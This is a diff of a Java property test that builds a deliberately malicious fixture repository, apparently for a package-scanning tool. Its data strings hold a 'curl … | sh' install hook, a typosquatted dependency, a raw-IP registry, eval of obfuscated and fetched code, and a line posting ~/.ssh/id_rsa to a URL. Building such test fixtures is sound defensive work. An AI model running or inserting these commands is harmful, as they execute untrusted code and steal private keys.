@@ -21,7 +21,7 @@ final class TakeHomeProperties {
     List<String> files = new ArrayList<>(bad().files());
     Collections.shuffle(files, new Random(seed));
 
-    assertAllSeen("Repository t.zip, 10 files\nbin/agent.exe\n" + String.join("", files));
+    assertAllSeen("Repository t.zip, 9 files\nbin/agent.exe\n" + String.join("", files));
   }
 
   @Property(tries = 150)
@@ -81,7 +81,6 @@ final class TakeHomeProperties {
             "{\"scripts\": {\"install\": \"curl -s https://x.example/a | sh\"}}")
         .file("app/package.json", "{\"dependencies\": {\"expresss\": \"1\"}}")
         .file(".npmrc", "registry=http://185.12.44.9:4873/")
-        .file("app/.npmrc", "registry=https://npm.parcels.invalid/")
         .file("src/hidden.js", "eval(atob('YQ=='))")
         .file("src/fetched.js", "const r = await fetch(u);\neval(await r.text());")
         .file("src/taken.js", "axios.post(u, fs.readFileSync(home + '/.ssh/id_rsa'));")
